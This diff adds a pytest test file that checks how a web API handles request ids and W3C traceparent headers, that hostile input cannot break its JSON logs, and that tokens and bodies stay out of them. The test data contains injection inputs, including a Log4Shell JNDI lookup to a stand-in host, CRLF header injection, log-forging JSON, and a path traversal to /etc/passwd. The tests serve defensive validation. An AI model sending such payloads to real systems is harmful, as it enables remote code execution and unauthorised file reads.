@@ -1,0 +1,141 @@
+"""C16: every request has an id and perhaps a trace, and nothing a caller sends can break the log."""
+
+from collections.abc import Mapping
+
+import pytest
+
+from tests.api.caller import Caller, refused
+from tests.api.conftest import Log
+
+TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
+PARENT = "00f067aa0ba902b7"
+HOSTILE = [
+    "",
+    "short-7",
+    "a" * 129,
+    "a" * 10240,
+    "with space",
+    "tab\tinside",
+    "quo\"te-quote'",
+    '"}\n{"level":"ERROR"',
+    "abcdefgh\r\nSet-Cookie: a=b",
+    "abcdefgh%0d%0aSet-Cookie:a=b",
+    "\x00abcdefgh",
+    "\x1b[31mabcdefgh",
+    "\x7fabcdefgh",
+    "caf\u00e9-caf\u00e9",
+    "abcdefgh\n",
+    "${jndi:ldap://evil.test/a}",
+    "../../../etc/passwd",
+    "abcdefgh, abcdefgh",
+]
+
+
+class TestRequestId:
+    """Kept when it is fit, else replaced."""
+
+    @pytest.mark.parametrize("sent", ["abcdefgh", "A.b_c-9.", "0" * 128, "5f0c9a7e-41d8-4f6c-b7a0-e2d31c9b8a64"])
+    def test_a_fit_id_is_kept(self, nobody: Caller, log: Log, sent: str) -> None:
+        """C16: it is answered, in the document, and in every line of the request."""
+        response = nobody.get("/v1/nothing", headers={"X-Request-Id": sent})
+        assert response.headers["X-Request-Id"] == response.headers["Request-Id"] == sent
+        assert refused(response, 404, "ROUTE_NOT_FOUND")["request_id"] == sent
+        assert {line["request_id"] for line in log.access + log.errors} == {sent}
+
+    @pytest.mark.parametrize("sent", HOSTILE, ids=lambda sent: ascii(sent)[:25])
+    @pytest.mark.parametrize("name", ["X_REQUEST_ID", "REQUEST_ID", "X_TRACE_ID"])
+    def test_a_hostile_id_is_replaced_and_the_log_stays_whole(
+        self, nobody: Caller, log: Log, name: str, sent: str
+    ) -> None:
+        """B22: one line of access and one of the error, each one valid JSON object."""
+        response = nobody.get("/v1/nothing", environ_overrides={f"HTTP_{name}": sent})
+        answered = response.headers["X-Request-Id"]
+        assert answered != sent
+        assert len(response.headers.getlist("X-Request-Id")) == 1
+        assert (len(log.access), len(log.errors)) == (1, 1)
+        assert {line["request_id"] for line in log.access + log.errors} == {answered}
+
+    @pytest.mark.parametrize(
+        ("sent", "kept"),
+        [
+            ({"X-Request-Id": "first-id", "Request-Id": "second-id", "X-Trace-Id": "third-id"}, "first-id"),
+            ({"X-Request-Id": "bad", "Request-Id": "second-id", "X-Trace-Id": "third-id"}, "second-id"),
+            ({"Request-Id": "bad", "X-Trace-Id": "third-id"}, "third-id"),
+            ({"X-Trace-Id": "third-id"}, "third-id"),
+        ],
+    )
+    def test_the_first_fit_one_of_three_fields_is_kept(
+        self, nobody: Caller, sent: Mapping[str, str], kept: str
+    ) -> None:
+        """C16."""
+        assert nobody.get("/healthz", headers=sent).headers["Request-Id"] == kept
+
+    def test_requests_without_one_get_different_ones(self, nobody: Caller) -> None:
+        """C16."""
+        assert len({nobody.get("/healthz").headers["X-Request-Id"] for _ in range(50)}) == 50
+
+    def test_an_id_is_not_left_over_for_the_next_request(self, nobody: Caller) -> None:
+        """C16: nothing of one request is known in the next."""
+        nobody.get("/healthz", headers={"X-Request-Id": "first-id", "Traceparent": f"00-{TRACE}-{PARENT}-01"})
+        response = nobody.get("/v1/nothing")
+        assert response.headers["X-Request-Id"] != "first-id"
+        assert "trace_id" not in refused(response, 404, "ROUTE_NOT_FOUND")
+
+
+class TestHostileText:
+    """What else a caller can get into the log."""
+
+    @pytest.mark.parametrize("path", ["/v1/%0a%0d", "/v1/%1b[31m", "/v1/%22%7D%0A%7B", "/v1/%00", "/v1/%ff%e2%80%a8"])
+    def test_a_hostile_path_stays_inside_its_line(self, nobody: Caller, log: Log, path: str) -> None:
+        """U3: one line, one object."""
+        refused(nobody.get(path), 404, "ROUTE_NOT_FOUND")
+        assert (len(log.lines), len(log.access), len(log.errors)) == (2, 1, 1)
+
+    def test_neither_token_nor_body_nor_query_is_logged(self, alice: Caller, log: Log) -> None:
+        """A9, D22."""
+        alice.create("hunter2")
+        alice.list_tasks(filter='title = "hunter2"')
+        alice.post(data=b'{"hunter2', content_type="application/json")
+        alice.create("ok", tags=["HUNTER2!"])
+        alice.get("/v1/tasks?access_token=hunter2")
+        token = alice.credentials["Authorization"].split()[1]
+        assert not any(secret in line for line in log.lines for secret in ("hunter2", "HUNTER2", token))
+
+
+class TestTraceparent:
+    """W3C Trace Context: continued where it is well formed."""
+
+    @pytest.mark.parametrize("version", ["00", "01", "cc"])
+    @pytest.mark.parametrize("flags", ["00", "01"])
+    def test_the_trace_is_continued(self, nobody: Caller, log: Log, version: str, flags: str) -> None:
+        """C16, C1."""
+        sent = {"Traceparent": f"{version}-{TRACE}-{PARENT}-{flags}"}
+        assert refused(nobody.get("/v1/nothing", headers=sent), 404, "ROUTE_NOT_FOUND")["trace_id"] == TRACE
+        assert {line["trace_id"] for line in log.access + log.errors} == {TRACE}
+
+    def test_a_later_version_may_say_more(self, nobody: Caller) -> None:
+        """C16: Trace Context, section 3.2.4."""
+        sent = {"Traceparent": f"01-{TRACE}-{PARENT}-01-what-the-future-will-bring"}
+        assert refused(nobody.get("/v1/nothing", headers=sent), 404, "ROUTE_NOT_FOUND")["trace_id"] == TRACE
+
+    @pytest.mark.parametrize(
+        "sent",
+        [
+            "",
+            f"ff-{TRACE}-{PARENT}-01",
+            f"00-{'0' * 32}-{PARENT}-01",
+            f"00-{TRACE}-{'0' * 16}-01",
+            f"00-{TRACE.upper()}-{PARENT}-01",
+            f"00-{TRACE}-{PARENT}",
+            f"00-{TRACE}-{PARENT}-01-more",
+            f"00-{TRACE[1:]}-{PARENT}-01",
+            f"00-{TRACE}-{PARENT}-zz",
+            f"00-{TRACE}-{PARENT}-01\n",
+            f"00-{TRACE}-{PARENT}-01, 00-{TRACE}-{PARENT}-01",
+            '"}\n{',
+        ],
+    )
+    def test_a_malformed_one_is_ignored(self, nobody: Caller, sent: str) -> None:
+        """C16."""
+        response = nobody.get("/v1/nothing", environ_overrides={"HTTP_TRACEPARENT": sent})
+        assert "trace_id" not in refused(response, 404, "ROUTE_NOT_FOUND")
